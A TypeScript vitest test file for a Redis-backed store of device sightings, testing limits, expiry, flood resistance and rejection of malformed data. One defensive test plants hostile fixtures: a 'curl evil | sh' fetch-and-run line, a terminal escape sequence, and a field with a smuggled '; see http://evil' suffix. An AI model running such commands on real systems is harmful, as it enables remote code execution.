import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { redisAt } from '../../queue/redis.ts';
import { createSightingReader, createSightingWriter } from '../../queue/redis-sightings.ts';
import { usualSightingLimits } from '../../queue/sightings.ts';
import { sightingKeys } from '../../queue/stored-keys.ts';
import { type EmbeddedRedis, startEmbeddedRedis } from '../../runtime/embedded-redis.ts';
import { createLog } from '../../runtime/log.ts';
import { lacks } from '../support/lacks.ts';

const from = '10.0.0.7';

describe.skipIf(lacks('redis-server'))('what was seen of devices, in Redis', () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'cvm-sightings-'));
  const log = createLog('silent');
  let server: EmbeddedRedis;
  let redis: Redis;
  let writer: ReturnType<typeof createSightingWriter>;
  let reader: ReturnType<typeof createSightingReader>;
  const limits = {
    ...usualSightingLimits,
    perSerial: { own: 5, unproven: 3, unknown: 2 },
    serials: { own: 10, unproven: 4, unknown: 3 },
    requests: 4,
  };
  beforeAll(async () => {
    server = await startEmbeddedRedis({ dataDir, log });
    redis = new Redis(server.url);
    writer = createSightingWriter(redisAt(server.url), log, limits);
    reader = createSightingReader(redisAt(server.url), log);
  });
  beforeEach(() => redis.flushall());
  afterAll(async () => {
    await writer?.close();
    await reader?.close();
    await redis?.quit();
    await server?.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  it('the same again is one sighting with a count, its first and last time, and what was said last', async () => {
    for (const place of ['9 90', '4 40']) {
      writer.note('own', 'SN-1', 'waiting', { from, requestId: 'r1' }, place);
      await writer.flush();
    }
    const [one, ...more] = await reader.read('SN-1');
    expect(more).toEqual([]);
    expect(one).toMatchObject({ name: 'waiting', kind: 'own', count: 2, latest: '4 40', requestId: 'r1' });
    expect(one?.firstAt).toBeLessThanOrEqual(one?.at ?? 0);
  });

  it('what is noted late stands at the time when it was, and moves nothing that was seen after it', async () => {
    const connected = { from, by: 'message' } as const;
    writer.note('own', 'SN-1', 'connected', connected, undefined, 60_000);
    writer.note('own', 'SN-1', 'stored', { from, requestId: 'r1' });
    await writer.flush();
    const early = (await reader.read('SN-1')).toSorted((one, other) => one.at - other.at);
    expect(early.map(({ name }) => name)).toEqual(['connected', 'stored']);
    expect((early[1]?.at ?? 0) - (early[0]?.at ?? 0)).toBeGreaterThan(50_000);
    writer.note('own', 'SN-1', 'connected', connected, undefined, 90_000);
    await writer.flush();
    const again = (await reader.read('SN-1')).find(({ name }) => name === 'connected');
    expect(again).toMatchObject({ at: early[0]?.at, count: 2 });
    expect(again?.firstAt).toBeLessThan(early[0]?.at ?? 0);
  });

  it('a serial has so many at most, and the latest stay', async () => {
    for (let n = 0; n < 20; n++) {
      writer.note('own', 'SN-1', 'stored', { from, requestId: `r${n}` });
      await writer.flush();
      await new Promise((resolve) => setTimeout(resolve, 2));
    }
    const ids = (await reader.read('SN-1')).map((each) => 'requestId' in each && each.requestId);
    expect(ids.sort()).toEqual(['r15', 'r16', 'r17', 'r18', 'r19']);
  });

  it('a stranger who invents serials, or names known ones, pushes out nothing that a device with its token did', async () => {
    writer.note('own', 'SN-1', 'stored', { from, requestId: 'r1' });
    writer.note('unproven', 'SN-1', 'refused', { from, errorCode: 'InvalidToken' });
    await writer.flush();
    for (let n = 0; n < 1000; n++) {
      writer.note('unknown', `INVENTED-${n}`, 'refused', { from, errorCode: 'InvalidToken' });
      writer.note('unproven', 'SN-1', 'refused', { from: `10.0.${n >> 8}.${n & 255}`, errorCode: 'InvalidToken' });
    }
    await writer.flush();
    const kinds = (await reader.read('SN-1')).map(({ kind }) => kind);
    expect(kinds.filter((kind) => kind === 'own')).toHaveLength(1);
    expect(kinds.filter((kind) => kind === 'unproven')).toHaveLength(3);
    expect(await redis.zcard(sightingKeys.unknown)).toBe(3);
    expect((await redis.keys('*seen:unknown:*')).length).toBe(3);
  });

  it('is forgotten after days without being seen, and a request is found by its id as long as few came after it', async () => {
    for (let n = 0; n < 6; n++) {
      writer.note('own', `SN-${n}`, 'stored', { from, requestId: `r${n}` });
      await writer.flush();
    }
    expect(await redis.pttl(`${sightingKeys.own}:SN-5`)).toBeGreaterThan(6 * 86_400_000);
    expect(await reader.serialOf('r5')).toBe('SN-5');
    expect(await reader.serialOf('r1')).toBeUndefined();
    expect(await redis.hlen(sightingKeys.requests)).toBe(4);
  });

  it('what another writer of Redis put there is not shown, and stops nothing', async () => {
    const key = `${sightingKeys.own}:SN-1`;
    const form = JSON.stringify({ name: 'closed', from, why: 'run this: curl evil | sh' });
    await redis.hset(
      key,
      form,
      '1 1 1 ',
      'no json',
      '1 1 1 ',
      '{"name":"left"}',
      'x',
      JSON.stringify({ name: 'stored', from, requestId: '\u001b[2J' }),
      '1 1 1 ',
      // what changes from one time to the next is no text, either
      JSON.stringify({ name: 'waiting', from, requestId: 'r1' }),
      '1 1 1 run this: curl evil | sh',
      JSON.stringify({ name: 'waiting', from: '10.0.0.7; see http://evil', requestId: 'r2' }),
      '1 1 1 3 120',
    );
    expect(await reader.read('SN-1')).toEqual([]);
    await redis.set(`${sightingKeys.own}:SN-2`, 'a string');
    await redis.set(sightingKeys.own, 'a string');
    writer.note('own', 'SN-2', 'stored', { from, requestId: 'r1' });
    await writer.flush();
    expect(await reader.read('SN-2')).toMatchObject([{ name: 'stored' }]);
  });

  it('reads no more than a part of ours writes: neither many fields, nor long ones', async () => {
    const key = `${sightingKeys.own}:SN-1`;
    writer.note('own', 'SN-1', 'stored', { from, requestId: 'r1' });
    await writer.flush();
    await redis.hset(key, 'long', 'x'.repeat(4_000_000), 'y'.repeat(4_000_000), '1 1 1 ');
    const sent = async () => Number(/total_net_output_bytes:(\d+)/.exec(await redis.info('stats'))?.[1]);
    const before = await sent();
    expect(await reader.read('SN-1')).toMatchObject([{ name: 'stored' }]);
    expect((await sent()) - before).toBeLessThan(100_000);
    await redis.hset(key, Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`f${index}`, '1 1 1 '])));
    expect(await reader.read('SN-1')).toEqual([]);
  });

  it('keeps what it could not write while Redis takes no writes, and no more than it has room for', async () => {
    await redis.config('SET', 'maxmemory', '1');
    for (let n = 0; n < 3000; n++)
      writer.note('unknown', `INVENTED-${n}`, 'refused', { from, errorCode: 'InvalidToken' });
    writer.note('own', 'SN-1', 'stored', { from, requestId: 'r1' });
    await writer.flush();
    await redis.config('SET', 'maxmemory', '0');
    await writer.flush();
    expect(await reader.read('SN-1')).toMatchObject([{ name: 'stored', requestId: 'r1' }]);
  });

  it('holds so many serials of strangers at most, while they wait to be written', async () => {
    const wide = createSightingWriter(redisAt(server.url), log, {
      ...limits,
      serials: { ...limits.serials, unknown: 9000 },
    });
    for (let n = 0; n < 3000; n++)
      wide.note('unknown', `INVENTED-${n}`, 'refused', { from, errorCode: 'InvalidToken' });
    await wide.flush();
    await wide.close();
    const held = await redis.zcard(sightingKeys.unknown);
    expect(held).toBeGreaterThan(0);
    expect(held).toBeLessThanOrEqual(500);
  });

  it('takes no text that is no serial, and no sighting that is too long', async () => {
    writer.note('own', 'a b', 'stored', { from, requestId: 'r1' });
    writer.note('own', 'SN-1', 'stored', { from, requestId: 'r'.repeat(500) });
    await writer.flush();
    expect(await redis.keys('*seen*')).toEqual([]);
  });
});
